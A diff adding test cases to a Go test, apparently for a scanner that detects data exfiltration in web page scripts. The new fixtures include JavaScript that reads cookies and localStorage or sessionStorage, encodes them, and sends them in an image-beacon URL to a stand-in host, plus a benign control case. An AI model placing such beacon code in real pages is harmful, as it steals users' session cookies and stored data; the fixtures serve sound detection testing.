@@ -24,6 +24,17 @@ func TestPageExfil(t *testing.T) {
   var store = g.localStorage; store.setItem("x", "1");
   function purge() { for (var i = store.length - 1; i >= 0; i--) { var k = store.key(i); if (k.indexOf("__s:") === 0 && store.getItem(k) === "") store.removeItem(k) } }
   return { purge: purge } })`}, finding.SeverityNone},
+		// the store handed to a reader, sent by an image whose URL takes
+		// the page's scheme (chosen at run time by a helper); the same
+		// reader in a storage library that sends nothing
+		{"store_handed_page_scheme", map[string]string{"index.js": `function base() { return (location.protocol === "http:" ? "http:" : "https:") + "//px.example.invalid" }
+function read(store) { const o = {}; for (let i = 0; i < store.length; i++) { const k = store.key(i); o[k] = store.getItem(k) } return o }
+const d = btoa(JSON.stringify({ c: document.cookie, l: read(window.localStorage) }));
+new Image().src = ` + "`${base()}/p.gif?d=${d}`"}, finding.SeverityCritical},
+		{"store_handed_protocol_relative", map[string]string{"index.js": `function read(store) { const o = {}; for (let i = 0; i < store.length; i++) { const k = store.key(i); o[k] = store.getItem(k) } return o }
+new Image().src = "//px.example.invalid/p.gif?d=" + btoa(JSON.stringify(read(window.sessionStorage)))`}, finding.SeverityHigh},
+		{"store_handed_no_destination", map[string]string{"index.js": `function read(store) { const o = {}; for (let i = 0; i < store.length; i++) { const k = store.key(i); o[k] = store.getItem(k) } return o }
+export const dump = () => read(window.localStorage); const img = new Image(); img.src = "/static/logo.png"`}, finding.SeverityNone},
 		// both stores walked through a loop variable, with the cookies
 		{"stores_in_loop", map[string]string{"index.js": `const snap = { cookie: document.cookie, entries: {} };
 for (const area of [window.localStorage, window.sessionStorage]) for (let i = 0; i < area.length; i++) { const k = area.key(i); snap.entries[k] = area.getItem(k) }
